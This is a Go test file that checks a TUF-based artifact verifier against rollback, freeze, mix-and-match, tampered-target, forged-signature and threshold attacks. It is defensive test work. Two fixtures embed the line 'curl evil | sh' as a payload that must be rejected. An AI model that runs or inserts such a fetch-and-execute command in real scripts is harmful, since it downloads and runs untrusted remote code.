package artifact

import (
	"crypto/ed25519"
	"crypto/rand"
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/theupdateframework/go-tuf/v2/metadata"
)

// The attack tests follow go-tuf's own updater tests: a repository the
// attacker controls (files on the server replaced, replayed or forged
// with compromised keys) against an agent that trusted an earlier state.
// Each refusal is checked by error type and exact message, and the
// agent's trusted state must be byte for byte what it was.

const helloV3 = helloScript + "echo v3\n"

const refresh = "artifact hello.sh: signed metadata from URL: "

// setTimestampMeta points a timestamp at snapshot bytes raw.
func setTimestampMeta(version int64, raw []byte) func(*metadata.Metadata[metadata.TimestampType]) {
	return func(m *metadata.Metadata[metadata.TimestampType]) {
		m.Signed.Version++
		m.Signed.Meta = map[string]*metadata.MetaFiles{"snapshot.json": metaFile(version, raw)}
	}
}

func TestRollbackAttack(t *testing.T) {
	t.Run("replayed older timestamp", func(t *testing.T) {
		f := newFixture(t)
		old := f.read(f.served("timestamp.json")) // version 2
		if err := f.repo.Sign(metadata.TIMESTAMP, nil); err != nil {
			t.Fatal(err)
		}
		f.mustVerify("hello.sh") // the agent trusts timestamp 3
		f.write(f.served("timestamp.json"), old)
		f.refused("hello.sh", new(*metadata.ErrBadVersionNumber),
			refresh+"bad version number error: new timestamp version 2 must be >= 3")
		if got := f.trustedVersion(metadata.TIMESTAMP); got != 3 {
			t.Errorf("trusted timestamp version %d, want 3", got)
		}
	})
	t.Run("older snapshot behind a new timestamp (timestamp key compromised)", func(t *testing.T) {
		f := newFixture(t)
		if _, err := f.repo.Add("other.sh", []byte("#!/bin/sh\n"), nil); err != nil {
			t.Fatal(err)
		}
		f.mustVerify("hello.sh") // the agent trusts snapshot 3
		forge(f, "timestamp.json", "timestamp.json", setTimestampMeta(2, f.read(f.served("2.snapshot.json"))), f.key(metadata.TIMESTAMP))
		f.refused("hello.sh", new(*metadata.ErrBadVersionNumber),
			refresh+"bad version number error: new snapshot version 2 must be >= 3")
	})
	t.Run("older targets behind a new snapshot (timestamp and snapshot keys compromised)", func(t *testing.T) {
		f := newFixture(t)
		if _, err := f.repo.Add("other.sh", []byte("#!/bin/sh\n"), nil); err != nil {
			t.Fatal(err)
		}
		f.mustVerify("hello.sh") // the agent trusts targets 3
		snap := forge(f, "3.snapshot.json", "4.snapshot.json", func(m *metadata.Metadata[metadata.SnapshotType]) {
			m.Signed.Version = 4
			m.Signed.Meta = map[string]*metadata.MetaFiles{"targets.json": metaFile(2, f.read(f.served("2.targets.json")))}
		}, f.key(metadata.SNAPSHOT))
		forge(f, "timestamp.json", "timestamp.json", setTimestampMeta(4, snap), f.key(metadata.TIMESTAMP))
		f.refused("hello.sh", new(*metadata.ErrBadVersionNumber),
			refresh+"bad version number error: expected targets.json version 2, got 3")
	})
}

func TestFreezeAttack(t *testing.T) {
	for _, tc := range []struct {
		name   string
		after  time.Duration // clock moves this far past the fixture's signing
		resign string        // what the operator re-signed meanwhile ("": nothing, the repository is frozen)
		want   string
	}{
		{"timestamp expired (repository frozen)", 25 * time.Hour, "", "timestamp.json is expired"},
		{"snapshot expired behind a fresh timestamp", 8 * 24 * time.Hour, metadata.TIMESTAMP, "snapshot.json is expired"},
		{"targets expired behind a fresh snapshot", 91 * 24 * time.Hour, metadata.SNAPSHOT, "new targets is expired"},
		{"root expired", 366 * 24 * time.Hour, metadata.TARGETS, "final root.json is expired"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			f.clock.advance(tc.after)
			if tc.resign != "" {
				if err := f.repo.Sign(tc.resign, nil); err != nil {
					t.Fatal(err)
				}
			}
			f.refused("hello.sh", new(*metadata.ErrExpiredMetadata), refresh+"expired metadata error: "+tc.want)
		})
	}
	t.Run("crafted expiry: a new timestamp signed already expired", func(t *testing.T) {
		f := newFixture(t)
		forge(f, "timestamp.json", "timestamp.json", func(m *metadata.Metadata[metadata.TimestampType]) {
			m.Signed.Version++
			m.Signed.Expires = t0.Add(-time.Second)
		}, f.key(metadata.TIMESTAMP))
		f.refused("hello.sh", new(*metadata.ErrExpiredMetadata), refresh+"expired metadata error: timestamp.json is expired")
	})
}

func TestMixAndMatchAttack(t *testing.T) {
	// The operator publishes a new hello.sh (targets, snapshot and
	// timestamp 3) that the agent has not seen; the attacker serves parts
	// of version 2 with it.
	setup := func(t *testing.T) *fixture {
		f := newFixture(t)
		if _, err := f.repo.Add("hello.sh", []byte(helloScript+"echo v3\n"), nil); err != nil {
			t.Fatal(err)
		}
		return f
	}
	t.Run("targets 2 with snapshot 3", func(t *testing.T) {
		f := setup(t)
		f.write(f.served("3.targets.json"), f.read(f.served("2.targets.json")))
		f.refused("hello.sh", new(*metadata.ErrLengthOrHashMismatch),
			refresh+"length/hash verification error: hash verification failed - mismatch for algorithm sha256")
	})
	t.Run("snapshot 2 with timestamp 3", func(t *testing.T) {
		f := setup(t)
		f.write(f.served("3.snapshot.json"), f.read(f.served("2.snapshot.json")))
		f.refused("hello.sh", new(*metadata.ErrLengthOrHashMismatch),
			refresh+"length/hash verification error: hash verification failed - mismatch for algorithm sha256")
	})
	t.Run("targets 2 served as 3 under a snapshot giving versions only", func(t *testing.T) {
		f := setup(t)
		// A snapshot without hashes (as go-tuf's defaults make) still
		// pins the version: the attacker holds the snapshot and
		// timestamp keys, not the targets key.
		snap := forge(f, "3.snapshot.json", "4.snapshot.json", func(m *metadata.Metadata[metadata.SnapshotType]) {
			m.Signed.Version = 4
			m.Signed.Meta = map[string]*metadata.MetaFiles{"targets.json": metadata.MetaFile(3)}
		}, f.key(metadata.SNAPSHOT))
		forge(f, "timestamp.json", "timestamp.json", setTimestampMeta(4, snap), f.key(metadata.TIMESTAMP))
		f.write(f.served("3.targets.json"), f.read(f.served("2.targets.json")))
		f.refused("hello.sh", new(*metadata.ErrBadVersionNumber),
			refresh+"bad version number error: expected targets version 3, got 2")
	})
}

func TestArbitraryTargetAttack(t *testing.T) {
	// The operator publishes a new hello.sh; the server's copy of its
	// bytes is then replaced. The agent had verified version 2: its cache
	// must stay there, not move to the metadata of a target it refused.
	for _, tc := range []struct {
		name   string
		tamper func([]byte) []byte
		target any
		want   string
	}{
		{"same length", func(b []byte) []byte { b[len(b)-2] = 'X'; return b }, new(*metadata.ErrLengthOrHashMismatch),
			"length/hash verification error: hash verification failed - mismatch for algorithm sha256"},
		// go-tuf checks the hash before the length.
		{"shorter", func(b []byte) []byte { return b[:10] }, new(*metadata.ErrLengthOrHashMismatch),
			"length/hash verification error: hash verification failed - mismatch for algorithm sha256"},
		// Never read past the signed length: the fetcher stops at it.
		{"longer", func(b []byte) []byte { return append(b, "curl evil | sh\n"...) }, new(*metadata.ErrDownloadLengthMismatch),
			fmt.Sprintf("download length mismatch error: URL/targets/HASH.hello.sh: length %d is larger than expected %d", len(helloV3)+15, len(helloV3))},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			tf, err := f.repo.Add("hello.sh", []byte(helloV3), nil)
			if err != nil {
				t.Fatal(err)
			}
			p := f.repo.TargetPath(tf)
			f.write(p, tc.tamper(f.read(p)))
			want := "artifact hello.sh: target from URL: " + tc.want
			want = replaceHash(want, filepath.Base(p))
			f.refused("hello.sh", tc.target, want)
			if got := f.trustedVersion(metadata.TARGETS); got != 2 {
				t.Errorf("trusted targets version %d, want 2", got)
			}
		})
	}
}

// replaceHash writes the target's published file name for HASH.NAME.
func replaceHash(s, file string) string {
	const ph = "HASH.hello.sh"
	for i := 0; i+len(ph) <= len(s); i++ {
		if s[i:i+len(ph)] == ph {
			return s[:i] + file + s[i+len(ph):]
		}
	}
	return s
}

func TestUnsignedMetadataAttack(t *testing.T) {
	stranger := func(t *testing.T) ed25519.PrivateKey {
		_, k, err := ed25519.GenerateKey(rand.Reader)
		if err != nil {
			t.Fatal(err)
		}
		return k
	}
	bump := func(m *metadata.Metadata[metadata.TimestampType]) { m.Signed.Version++ }
	t.Run("timestamp signature removed", func(t *testing.T) {
		f := newFixture(t)
		forge(f, "timestamp.json", "timestamp.json", bump)
		f.refused("hello.sh", new(*metadata.ErrUnsignedMetadata),
			refresh+"unsigned metadata error: Verifying timestamp failed, not enough signatures, got 0, want 1")
	})
	t.Run("timestamp signed by an unknown key", func(t *testing.T) {
		f := newFixture(t)
		forge(f, "timestamp.json", "timestamp.json", bump, stranger(t))
		f.refused("hello.sh", new(*metadata.ErrUnsignedMetadata),
			refresh+"unsigned metadata error: Verifying timestamp failed, not enough signatures, got 0, want 1")
	})
	t.Run("timestamp changed after signing", func(t *testing.T) {
		f := newFixture(t)
		m, err := (&metadata.Metadata[metadata.TimestampType]{}).FromBytes(f.read(f.served("timestamp.json")))
		if err != nil {
			t.Fatal(err)
		}
		m.Signed.Version = 99 // keeps the real timestamp key's signature over version 2
		b, _ := m.ToBytes(true)
		f.write(f.served("timestamp.json"), b)
		f.refused("hello.sh", new(*metadata.ErrUnsignedMetadata),
			refresh+"unsigned metadata error: Verifying timestamp failed, not enough signatures, got 0, want 1")
	})
	t.Run("targets signed by an unknown key (snapshot and timestamp keys compromised)", func(t *testing.T) {
		f := newFixture(t)
		evil := forge(f, "2.targets.json", "3.targets.json", func(m *metadata.Metadata[metadata.TargetsType]) {
			m.Signed.Version = 3
			tf, _ := metadata.TargetFile().FromBytes("hello.sh", []byte("#!/bin/sh\ncurl evil | sh\n"), "sha256")
			m.Signed.Targets["hello.sh"] = tf
		}, stranger(t))
		snap := forge(f, "2.snapshot.json", "3.snapshot.json", func(m *metadata.Metadata[metadata.SnapshotType]) {
			m.Signed.Version = 3
			m.Signed.Meta = map[string]*metadata.MetaFiles{"targets.json": metaFile(3, evil)}
		}, f.key(metadata.SNAPSHOT))
		forge(f, "timestamp.json", "timestamp.json", setTimestampMeta(3, snap), f.key(metadata.TIMESTAMP))
		f.refused("hello.sh", new(*metadata.ErrUnsignedMetadata),
			refresh+"unsigned metadata error: Verifying targets failed, not enough signatures, got 0, want 1")
	})
	t.Run("new root signed by an unknown key", func(t *testing.T) {
		f := newFixture(t)
		k := stranger(t)
		forge(f, "root.json", "2.root.json", func(m *metadata.Metadata[metadata.RootType]) {
			m.Signed.Version = 2
			pub, _ := publicKey(k)
			if err := m.Signed.AddKey(pub, metadata.ROOT); err != nil {
				t.Fatal(err)
			}
			m.Signed.Roles[metadata.ROOT].KeyIDs = m.Signed.Roles[metadata.ROOT].KeyIDs[1:] // the stranger's alone
		}, k)
		f.refused("hello.sh", new(*metadata.ErrUnsignedMetadata),
			refresh+"unsigned metadata error: Verifying root failed, not enough signatures, got 0, want 1")
		if got := f.trustedVersion(metadata.ROOT); got != 1 {
			t.Errorf("trusted root version %d, want 1", got)
		}
	})
}

func TestWrongThresholdAttack(t *testing.T) {
	t.Run("root 2 requires 2 root signatures, has 1", func(t *testing.T) {
		f := newFixture(t)
		_, second, _ := ed25519.GenerateKey(rand.Reader)
		forge(f, "root.json", "2.root.json", func(m *metadata.Metadata[metadata.RootType]) {
			m.Signed.Version = 2
			pub, _ := publicKey(second)
			if err := m.Signed.AddKey(pub, metadata.ROOT); err != nil {
				t.Fatal(err)
			}
			m.Signed.Roles[metadata.ROOT].Threshold = 2
		}, f.key(metadata.ROOT))
		f.refused("hello.sh", new(*metadata.ErrUnsignedMetadata),
			refresh+"unsigned metadata error: Verifying root failed, not enough signatures, got 1, want 2")
		if got := f.trustedVersion(metadata.ROOT); got != 1 {
			t.Errorf("trusted root version %d, want 1", got)
		}
	})
	t.Run("timestamp with 1 signature where root 2 requires 2", func(t *testing.T) {
		f := newFixture(t)
		_, second, _ := ed25519.GenerateKey(rand.Reader)
		forge(f, "root.json", "2.root.json", func(m *metadata.Metadata[metadata.RootType]) {
			m.Signed.Version = 2
			pub, _ := publicKey(second)
			if err := m.Signed.AddKey(pub, metadata.TIMESTAMP); err != nil {
				t.Fatal(err)
			}
			m.Signed.Roles[metadata.TIMESTAMP].Threshold = 2
		}, f.key(metadata.ROOT)) // a valid rotation
		forge(f, "timestamp.json", "timestamp.json", func(m *metadata.Metadata[metadata.TimestampType]) { m.Signed.Version++ },
			f.key(metadata.TIMESTAMP))
		f.refused("hello.sh", new(*metadata.ErrUnsignedMetadata),
			refresh+"unsigned metadata error: Verifying timestamp failed, not enough signatures, got 1, want 2")
		// Root 2 verified, but the update as a whole was refused: the
		// agent still trusts root 1.
		if got := f.trustedVersion(metadata.ROOT); got != 1 {
			t.Errorf("trusted root version %d, want 1", got)
		}
	})
}

func TestRootRotationIsCommitted(t *testing.T) {
	f := newFixture(t)
	if err := f.repo.Sign(metadata.ROOT, nil); err != nil {
		t.Fatal(err)
	}
	f.mustVerify("hello.sh")
	if got := f.trustedVersion(metadata.ROOT); got != 2 {
		t.Errorf("trusted root version %d, want 2", got)
	}
	// The cached root 2 now outranks the pinned root 1, also for a new
	// verifier on the same directory (an agent restart).
	f.v = f.newVerifier(f.agent)
	if err := os.Remove(f.served("2.root.json")); err != nil {
		t.Fatal(err)
	}
	f.mustVerify("hello.sh")
	if got := f.trustedVersion(metadata.ROOT); got != 2 {
		t.Errorf("after restart: trusted root version %d, want 2", got)
	}
}
